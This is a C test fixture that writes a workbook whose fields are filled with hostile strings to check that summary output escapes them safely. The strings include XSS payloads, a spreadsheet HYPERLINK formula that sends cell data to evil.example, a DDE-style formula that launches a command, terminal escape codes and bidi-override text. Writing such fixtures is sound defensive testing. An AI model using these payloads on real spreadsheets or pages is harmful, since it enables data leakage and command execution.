/* summary-hostile.c: a workbook full of hostile text for the summary tests (also `summary-hostile FILE`). */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "summary-hostile.h"
#include "wb.h"

/* Every text field of the workbook gets one of these. */
static const char *const hostile[] = {
	"<script>alert('x')</script><b>bold</b><img src=x onerror=alert(1)> & \"quotes\"",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"+1+2 and -3-4",
	"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \r carriage \b back \t tab",
	"bidi \xe2\x80\xae" "evil\xe2\x80\xac and \xe2\x81\xa6isolate\xe2\x81\xa9 end",
	"\xe5\x9b\xbd\xe5\xae\xb6\xe5\x9f\xba\xe7\xa1\x80\xe8\xae\xbe\xe6\x96\xbd\xe4\xbf\x9d"
	    "\xe6\x8a\xa4\xe8\xae\xa1\xe5\x88\x92\xe9\x9c\x80\xe8\xa6\x81\xe6\x98\x8e\xe7\xa1\xae"
	    "\xe5\x90\x84\xe9\x83\xa8\xe9\x97\xa8\xe7\x9a\x84\xe8\x81\x8c\xe8\xb4\xa3\xe5\x88\x86"
	    "\xe5\xb7\xa5\xe7\x89\xb9\xe5\x88\xab\xe6\x98\xaf\xe8\x83\xbd\xe6\xba\x90\xe5\x92\x8c"
	    "\xe7\x94\xb5\xe4\xbf\xa1\xe9\x83\xa8\xe9\x97\xa8\xe3\x80\x82",
	"\xd9\x8a\xd9\x8e\xd8\xac\xd9\x90\xd8\xa8\xd9\x8f \xd8\xaa\xd9\x8e\xd8\xad\xd9\x92\xd8\xaf"
	    "\xd9\x90\xd9\x8a\xd8\xab\xd9\x8f \xd8\xae\xd9\x8f\xd8\xb7\xd9\x91\xd9\x8e\xd8\xa9\xd9\x90"
	    " \xd8\xa7\xd9\x84\xd8\xa7\xd8\xb3\xd9\x92\xd8\xaa\xd9\x90\xd8\xac\xd9\x8e\xd8\xa7\xd8\xa8"
	    "\xd9\x8e\xd8\xa9\xd9\x90",
	"# heading | pipe | [link](http://evil.example) *star* _under_ `code` \\ 1. list",
	"invalid \xff\xfe bytes \xc0\xaf overlong",
	"</style><style>body{display:none}</style>\"; } body { color: red",
	"]]> --> <!-- ",
};
#define NHOSTILE (sizeof hostile / sizeof hostile[0])

static void
die(struct wb *wb, const char *what)
{
	fprintf(stderr, "summary-hostile: %s: %s\n", what, wb != NULL ? wb_errmsg(wb) : "");
	exit(1);
}

void
sh_write(const char *path)
{
	struct wb *wb = NULL;
	struct wb_details d = { 0 };
	char *err = NULL, *longword;
	int64_t g, sh[NHOSTILE + 1], id;
	size_t i;

	if (wb_open(path, WB_OPEN_CREATE, &wb, &err) != 0) {
		fprintf(stderr, "summary-hostile: %s\n", err);
		exit(1);
	}
	/* A 10,000-character word. */
	longword = malloc(10001);
	if (longword == NULL)
		die(NULL, "out of memory");
	for (i = 0; i < 10000; i++)
		longword[i] = (char)('a' + i % 26);
	longword[10000] = '\0';

	d.title = hostile[0];
	d.country = hostile[1];
	d.date_start = "2026-03-10";
	d.date_end = "2026-03-11";
	d.venue = hostile[4];
	d.facilitator = hostile[5];
	if (wb_details_set(wb, &d) != 0)
		die(wb, "details");
	if (wb_group_add(wb, hostile[0], &g) != 0)
		die(wb, "group");
	for (i = 0; i <= NHOSTILE; i++) {
		struct wb_stakeholder s = { 0 };

		s.name = i < NHOSTILE ? hostile[i] : longword;
		s.category = i % 2 ? "national_government" : "non_governmental";
		s.contact = hostile[(i + 1) % NHOSTILE];
		s.responsibilities = hostile[(i + 2) % NHOSTILE];
		s.influence = (int)(i % 5) + 1;
		s.interest = (int)(i * 3 % 5) + 1;
		if (wb_stakeholder_add(wb, &s, &sh[i]) != 0)
			die(wb, "stakeholder");
	}
	for (i = 0; i < 18; i++) {
		struct wb_item it = { 0 };
		struct wb_note n = { 0 };
		struct wb_evidence e = { 0 };
		struct wb_action a = { 0 };
		char ref[32];

		snprintf(ref, sizeof ref, "64/211:%zu", i + 1);
		it.ref = ref;
		it.current = i % 3 ? "start_up" : "formative";
		it.target = "strategic";
		it.needs_review = (int)(i % 2);
		if (wb_item_set(wb, &it) != 0)
			die(wb, "item");
		n.ref = ref;
		n.body = hostile[i % NHOSTILE];
		n.group_id = g;
		if (wb_note_add(wb, &n, &id) != 0)
			die(wb, "note");
		n.body = longword;
		if (i == 4 && wb_note_add(wb, &n, &id) != 0)
			die(wb, "note");
		e.ref = ref;
		e.name = hostile[(i + 3) % NHOSTILE];
		e.location = i == 5 ? longword : hostile[(i + 4) % NHOSTILE];
		if (wb_evidence_add(wb, &e, &id) != 0)
			die(wb, "evidence");
		a.ref = ref;
		a.title = i == 6 ? longword : hostile[(i + 5) % NHOSTILE];
		a.owner_id = sh[i % (NHOSTILE + 1)];
		a.due = i % 2 ? "2026-01-01" : "2026-12-31";
		if (wb_action_add(wb, &a, &id) != 0)
			die(wb, "action");
		if (wb_role_set(wb, sh[i % (NHOSTILE + 1)], ref, i % 4 ? "consulted" : "accountable",
		    &id) != 0)
			die(wb, "role");
	}
	for (i = 0; i < NHOSTILE; i++) {
		struct wb_log l = { 0 };

		l.group_id = g;
		l.heading = i % 2 ? hostile[i] : "64/211#1";
		l.note = hostile[i];
		l.at = "2026-03-10T09:00:00Z";
		if (wb_log_add(wb, &l, &id) != 0)
			die(wb, "log");
	}
	if (wb_relation_add(wb, sh[0], sh[NHOSTILE], "depends_on", &id) != 0)
		die(wb, "relation");
	wb_close(wb);
	free(longword);
}

#ifdef SUMMARY_HOSTILE_MAIN
int
main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: summary-hostile FILE\n");
		return 2;
	}
	sh_write(argv[1]);
	return 0;
}
#endif
